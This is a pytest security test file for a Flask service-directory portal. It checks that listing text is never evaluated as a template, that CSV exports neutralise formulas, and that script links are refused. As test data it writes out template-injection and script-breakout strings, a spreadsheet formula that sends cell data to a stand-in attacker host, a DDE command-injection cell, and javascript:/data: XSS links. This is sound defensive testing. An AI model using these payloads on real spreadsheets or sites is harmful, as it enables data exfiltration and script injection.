"""Listing text is shown as it was written, everywhere: template syntax, `</script>`, `<!--` and quotes in
every text field of a listing come out literally on every page, map, API answer and export that shows
them; they are never evaluated, never end a script early, and JSON gives back the exact text."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from flask.testing import FlaskClient

from tests.listings import World, make_world, remove_world, service_snapshot
from tests.pages import fetch_page

# Template syntax (evaluated it would print 49 and x), the end of a script, an HTML comment and quotes.
HOSTILE = "{{ 7*7 }} {% if 1 %}x{% endif %} </script> <!-- 'single' \"double\""
MAP_DATA = re.compile(r"var data = (\[.*?\]);\n", re.DOTALL)
FIELDS = ("Organisation name", "Organisation description", "Service name", "Service description", "Notice",
          "Phone description", "Language name", "Cost description", "Place name",
          "Address line one", "Address line two", "Town", "Accessibility", "Place times note", "Eligibility",
          "How to access", "Interpretation", "Wait time", "Accreditations", "Place description", "Transport")


def hostile(field: str) -> str:
    return f"{field} {HOSTILE}"


def evaluated(text: str) -> list[str]:
    """The fields whose text shows as a template's output ("Town 49 x"), not as written."""
    return [field for field in FIELDS if re.search(re.escape(field) + r"\W*49\b", text)]


@pytest.fixture
def world(app: Flask) -> Iterator[World]:
    """Organisation A's listing with hostile text in every text field, live (as an approval leaves it)."""
    from portal.extensions import db
    from portal.listings.snapshots import apply_organisation_snapshot, apply_snapshot, organisation_snapshot_of
    from portal.models import Organization, Service

    made = make_world(app)
    with app.app_context():
        organisation = db.session.get(Organization, made.organisation_a)
        apply_organisation_snapshot(organisation, {**organisation_snapshot_of(organisation),
                                                   "name": hostile("Organisation name") + " " + made.word,
                                                   "description": hostile("Organisation description")})
        snapshot = service_snapshot(hostile("Service name") + " " + made.word, hostile("Service description"))
        place = snapshot["locations"][0]
        place.update(name=hostile("Place name"), address_1=hostile("Address line one"),
                     address_2=hostile("Address line two"), town=hostile("Town"),
                     accessibility=[hostile("Accessibility")],
                     opening_times=[{"day": "MO", "opens": "09:00", "closes": "12:00",
                                     "note": hostile("Place times note")}])
        snapshot.update(alert=hostile("Notice"), phones=[{"number": "0161 496 0123",
                                                          "description": hostile("Phone description")}],
                        languages=[{"code": "ur", "name": hostile("Language name")}],
                        costs={"free": False, "amount": "2.50", "description": hostile("Cost description")},
                        opening_times=[{"day": "TU", "opens": "10:00", "closes": "11:00",
                                        "note": hostile("Service times note")}])
        service = apply_snapshot(db.session(), db.session.get(Service, made.service_a), made.organisation_a,
                                 snapshot, app.extensions["vocabularies"])
        # Fields only an import fills in.
        service.eligibility_description = hostile("Eligibility")
        service.application_process = hostile("How to access")
        service.interpretation_services = hostile("Interpretation")
        service.wait_time = hostile("Wait time")
        service.accreditations = hostile("Accreditations")
        location = service.service_at_locations[0].location
        location.description, location.transportation = hostile("Place description"), hostile("Transport")
        db.session.commit()
    yield made
    remove_world(app, made)


def assert_literal_html(url: str, html: str, fields: tuple[str, ...]) -> BeautifulSoup:
    """The page shows each field's text as written, evaluates none of it, and no text ends a script."""
    page = BeautifulSoup(html, "html.parser")
    text = page.get_text(" ")
    for field in fields:
        assert hostile(field) in text, f"{url}: {field} is not shown as written"
    assert not evaluated(html) and not evaluated(text), f"{url}: evaluated as a template: {evaluated(text)}"
    assert html.count("</script>") == len(page.find_all("script")), f"{url}: a script ends early"
    assert "</script> <!--" not in html, f"{url}: text reached the page unescaped"
    return page


def map_rows(url: str, page: BeautifulSoup) -> list[list[Any]]:
    scripts = [script.string or "" for script in page.find_all("script")]
    found = [MAP_DATA.search(script) for script in scripts]
    rows = [json.loads(match.group(1)) for match in found if match]
    assert rows, f"{url}: no map"
    return [row for group in rows for row in group]


def strings_in(value: Any) -> set[str]:
    if isinstance(value, str):
        return {value}
    if isinstance(value, dict):
        return set().union(*(strings_in(item) for item in value.values())) if value else set()
    if isinstance(value, list):
        return set().union(*(strings_in(item) for item in value)) if value else set()
    return set()


def test_every_page_shows_listing_text_as_written(client: FlaskClient, world: World) -> None:
    service_page = f"/services/{world.service_a}"
    everything_shown = ("Organisation name", "Service name", "Service description", "Notice", "Phone description",
                        "Cost description", "Eligibility", "How to access", "Place name", "Address line one",
                        "Address line two", "Accessibility", "Place times note")
    page = assert_literal_html(service_page, str(fetch_page(client, service_page)), everything_shown)
    assert [row[2] for row in map_rows(service_page, page)] == [hostile("Place name")]

    organisation_page = f"/organisations/{world.organisation_a}"
    assert_literal_html(organisation_page, str(fetch_page(client, organisation_page)),
                        ("Organisation name", "Organisation description", "Service name"))

    results = f"/search?q={world.word}"
    assert_literal_html(results, str(fetch_page(client, results)), ("Service name",))

    results_map = f"/search/map?q={world.word}"
    page = assert_literal_html(results_map, str(fetch_page(client, results_map)), ())
    names = [row[2] for row in map_rows(results_map, page)]
    assert hostile("Service name") + " " + world.word in names

    shortlist = f"/shortlist/shared?ids={world.service_a}"
    assert_literal_html(shortlist, str(fetch_page(client, shortlist)), ("Service name",))


def test_the_api_gives_back_listing_text_exactly(client: FlaskClient, world: World) -> None:
    expected = {hostile(field) for field in FIELDS} - {hostile("Organisation name"), hostile("Service name")}
    expected |= {hostile("Service name") + " " + world.word}
    answer = client.get(f"/api/oruk/services/{world.service_a}")
    assert answer.status_code == 200
    missing = expected - strings_in(answer.get_json())
    assert missing <= {hostile("Organisation description")}, f"not given back exactly: {missing}"
    assert not evaluated(answer.get_data(as_text=True))

    for url, shown in ((f"/api/oruk/services?search={world.word}", hostile("Service name") + " " + world.word),
                       (f"/api/oruk/service_at_locations?search={world.word}", hostile("Place name"))):
        answer = client.get(url)
        assert answer.status_code == 200, url
        assert shown in strings_in(answer.get_json()), url
        assert not evaluated(answer.get_data(as_text=True)), url


@pytest.mark.parametrize("kind", ["json", "csv"])
def test_exports_keep_listing_text_exactly(app: Flask, world: World, tmp_path: Path, kind: str) -> None:
    result = app.test_cli_runner().invoke(args=["portal", "export", "--format", kind, str(tmp_path)])
    assert result.exit_code == 0, result.output
    values: set[str] = set()
    for path in tmp_path.rglob(f"*.{kind}"):
        if kind == "json":
            values |= strings_in(json.loads(path.read_text(encoding="utf-8")))
        else:
            with path.open(newline="", encoding="utf-8") as file:
                values |= {cell for row in csv.reader(file) for cell in row}
    kept = {hostile(field) for field in FIELDS} - {hostile("Organisation name"), hostile("Service name")}
    assert not kept - values, f"{kind} export: not kept exactly: {kept - values}"
    assert hostile("Service name") + " " + world.word in values
    assert hostile("Organisation name") + " " + world.word in values
    assert not evaluated(" ".join(values))


def test_text_approved_through_moderation_shows_as_written(client: FlaskClient, app: Flask) -> None:
    """The editor's pages, the moderator's review and history, and the public pages after approval."""
    from portal.extensions import db
    from portal.models import ListingVersion
    from tests.accounts import sign_in_as
    from tests.listings import post_form

    made = make_world(app)
    try:
        service_url = f"/manage/services/{made.service_a}"
        sign_in_as(client, made.editor_a)
        response = post_form(client, f"{service_url}/sections/details",
                             {"name": hostile("Service name") + " " + made.word,
                              "description": hostile("Service description"), "url": "", "email": "", "phones": ""})
        assert response.status_code == 303
        response = post_form(client, f"{service_url}/places/0",
                             {"name": hostile("Place name"), "address_1": hostile("Address line one"),
                              "address_2": hostile("Address line two"), "town": "Ashton-under-Lyne",
                              "postcode": "OL6 6BH", "accessibility": hostile("Accessibility")})
        assert response.status_code == 303, response.get_data(as_text=True)[:3000]
        shown = ("Service name", "Service description", "Place name", "Address line one", "Address line two")
        assert_literal_html(service_url, client.get(service_url).get_data(as_text=True), shown)
        post_form(client, f"{service_url}/submit", {"note": hostile("Editor note")}, page_url=service_url)
        with app.app_context():
            version_id = db.session.scalars(db.select(ListingVersion.id).where(
                ListingVersion.service_id == made.service_a, ListingVersion.status == "pending")).one()

        sign_in_as(client, made.moderator)
        review_url = f"/moderation/versions/{version_id}"
        for url in ("/moderation", review_url):
            assert_literal_html(url, str(fetch_page(client, url)), ("Service name",))
        assert_literal_html(review_url, client.get(review_url).get_data(as_text=True), shown)
        assert post_form(client, review_url, {"decision": "approve", "reason": ""}).status_code == 303
        history = f"/moderation/services/{made.service_a}/history"
        assert_literal_html(history, str(fetch_page(client, history)), ())

        public = f"/services/{made.service_a}"
        page = assert_literal_html(public, str(fetch_page(client, public)), shown)
        assert [row[2] for row in map_rows(public, page)] == [hostile("Place name")]
    finally:
        remove_world(app, made)


# Spreadsheet formulas and links that run script -------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
SUM_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_world(app: Flask) -> Iterator[World]:
    """Organisation A named like a formula, its service too, and a place whose address starts with a tab."""
    from portal.extensions import db
    from portal.models import Location, Organization, Service

    made = make_world(app)
    with app.app_context():
        db.session.get(Organization, made.organisation_a).name = FORMULA_NAME
        service = db.session.get(Service, made.service_a)
        service.name = SUM_NAME
        service.description = "+44 161 496 0123 is the number to call\n-and- a line"
        location = db.session.get(Location, service.service_at_locations[0].location_id)
        location.name = "\t=1+2"
        db.session.commit()
    yield made
    remove_world(app, made)


def exported_csv(app: Flask, folder: Path) -> dict[str, list[dict[str, str]]]:
    result = app.test_cli_runner().invoke(args=["portal", "export", "--format", "csv", str(folder)])
    assert result.exit_code == 0, result.output
    tables = {}
    for path in folder.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            tables[path.stem] = list(csv.DictReader(file))
    return tables


def test_the_csv_export_writes_formulas_as_text(app: Flask, formula_world: World, tmp_path: Path) -> None:
    tables = exported_csv(app, tmp_path)
    by_id = {table: {row["id"]: row for row in rows} for table, rows in tables.items()}
    assert by_id["organizations"][formula_world.organisation_a]["name"] == "'" + FORMULA_NAME
    service = by_id["services"][formula_world.service_a]
    assert service["name"] == "'" + SUM_NAME
    assert service["description"].startswith("'+44 161")
    assert "'\t=1+2" in {row["name"] for row in tables["locations"]}
    for table, rows in tables.items():
        for row in rows:
            for name, cell in row.items():
                if cell.startswith(FORMULA_STARTS):
                    # Only numbers may start with a minus sign (a longitude): they are not formulas.
                    assert re.fullmatch(r"-\d+(\.\d+)?", cell), f"{table}.{name} starts a formula: {cell!r}"


def test_our_own_csv_export_reads_back_exactly(app: Flask, formula_world: World, tmp_path: Path) -> None:
    from portal.exchange.importing import check_path
    from portal.extensions import db

    exported_csv(app, tmp_path)
    with app.app_context():
        checked = check_path(db.session(), tmp_path)
    assert not checked.errors, checked.errors[:5]
    assert checked.rows["organization"][formula_world.organisation_a]["name"] == FORMULA_NAME
    service = checked.rows["service"][formula_world.service_a]
    assert service["name"] == SUM_NAME
    assert service["description"] == "+44 161 496 0123 is the number to call\n-and- a line"
    assert "\t=1+2" in {row["name"] for row in checked.rows["location"].values()}
    assert all(-3 < row["longitude"] < -1 for row in checked.rows["location"].values() if row.get("longitude"))


@pytest.mark.parametrize("text", ["=1+2", "'=1+2", "''@x", "'plain", "-", "'", "", "plain", "\t", "'\r=", "+-"])
def test_making_a_cell_safe_and_reading_it_back_give_the_text(text: str) -> None:
    from portal.csv_cells import as_written, spreadsheet_safe

    safe = spreadsheet_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert as_written(safe) == text


BAD_LINKS = ("javascript:alert(document.domain)", "data:text/html,<script>alert(1)</script>",
             " JavaScript:alert(1)", "vbscript:msgbox(1)", "java\tscript:alert(1)")


@pytest.mark.parametrize("link", BAD_LINKS)
def test_an_import_with_a_script_link_is_refused(app: Flask, tmp_path: Path, link: str) -> None:
    template = tmp_path / "listing.csv"
    with template.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["organisation_name", "organisation_website", "service_name", "service_description",
                         "service_url"])
        writer.writerow(["Example Group (example only)", link, "Example Club", "An example", link])
    result = app.test_cli_runner().invoke(args=["portal", "import", str(template), "--dry-run", "--approve"])
    assert result.exit_code != 0
    for column in ("organisation_website", "service_url"):
        assert f"{template}, line 2, field '{column}': must be a web address starting http:// or https://" \
            in result.output, result.output


def test_an_oruk_file_with_a_data_link_is_refused(app: Flask, tmp_path: Path) -> None:
    service = {"id": "0b7e4f0e-6f5b-4a57-9d2a-7d5d8b0c2a11", "name": "Example Club", "description": "An example",
               "status": "active", "url": "data:text/html,<script>alert(1)</script>",
               "organization": {"id": "5a0e2f4c-1b2d-4e3f-8a9b-0c1d2e3f4a5b", "name": "Example Group (example only)",
                                "description": "An example", "website": "javascript:alert(1)"}}
    path = tmp_path / "service.json"
    path.write_text(json.dumps(service), encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["portal", "import", str(path), "--dry-run", "--approve"])
    assert result.exit_code != 0
    assert result.output.count("must be a web address starting http:// or https://") == 2, result.output
    assert "'url'" in result.output and "'website'" in result.output


@pytest.mark.parametrize("link", BAD_LINKS[:2])
def test_an_edit_with_a_script_link_is_refused(client: FlaskClient, world: World, link: str) -> None:
    from tests.accounts import sign_in_as
    from tests.listings import post_form

    sign_in_as(client, world.editor_a)
    response = post_form(client, f"/manage/services/{world.service_a}/sections/details",
                         {"name": "Test club", "description": "An example", "url": link, "email": "", "phones": ""})
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "govuk-error-summary" in html
    assert "Enter a website address in the correct format" in html
    response = post_form(client, f"/manage/organisations/{world.organisation_a}/edit",
                         {"name": "Test organisation", "description": "", "website": link, "email": "",
                          "safeguarding_lead": "", "note": ""})
    html = response.get_data(as_text=True)
    assert response.status_code == 200 and "Enter a website address in the correct format" in html


@pytest.mark.parametrize("link", BAD_LINKS[:2])
def test_a_script_link_already_in_the_database_is_never_shown_or_passed_on(
        app: Flask, client: FlaskClient, world: World, tmp_path: Path, link: str) -> None:
    from portal.extensions import db
    from portal.models import Organization, Service

    with app.app_context():
        db.session.get(Organization, world.organisation_a).website = link
        db.session.get(Service, world.service_a).url = link
        db.session.commit()
    scheme = link.split(":", 1)[0]
    for url in (f"/services/{world.service_a}", f"/organisations/{world.organisation_a}",
                f"/shortlist/shared?ids={world.service_a}", f"/search?q={world.word}"):
        page = fetch_page(client, url)
        assert not [a for a in page.find_all("a") if (a.get("href") or "").lower().startswith(scheme)], url
        assert link not in page.get_text(), url
    for url in (f"/api/oruk/services/{world.service_a}", f"/api/oruk/services?search={world.word}"):
        answer = client.get(url)
        assert answer.status_code == 200 and scheme not in answer.get_data(as_text=True).lower(), url
    for kind in ("json", "csv"):
        result = app.test_cli_runner().invoke(args=["portal", "export", "--format", kind, str(tmp_path / kind)])
        assert result.exit_code == 0, result.output
        for path in (tmp_path / kind).iterdir():
            assert f"{scheme}:" not in path.read_text(encoding="utf-8").lower(), path


def test_the_rules_hold_in_the_source(project_dir: Path) -> None:
    """Every CSV the portal writes goes through SafeWriter; no text is compiled as a template at run time
    (templates are files, or constants in portal/geo/maps.py, never strings built from data)."""
    sources = {path: path.read_text(encoding="utf-8") for path in (project_dir / "portal").rglob("*.py")}
    writers = [path for path, text in sources.items()
               if re.search(r"csv\.(writer|DictWriter)\(", text) and path.name != "csv_cells.py"]
    assert not writers, f"CSV written without SafeWriter in {writers}"
    compiling = [path for path, text in sources.items()
                 if re.search(r"render_template_string|from_string\(|jinja2\.Environment\(|(?<![`\w])Element\(", text)]
    assert not compiling, f"text compiled as a template in {compiling}"
    constants = re.compile(r'^    _template = Template\(\n\s+"""', re.MULTILINE)
    for path, text in sources.items():
        assert text.count("Template(") == len(constants.findall(text)), f"a template built from text in {path}"
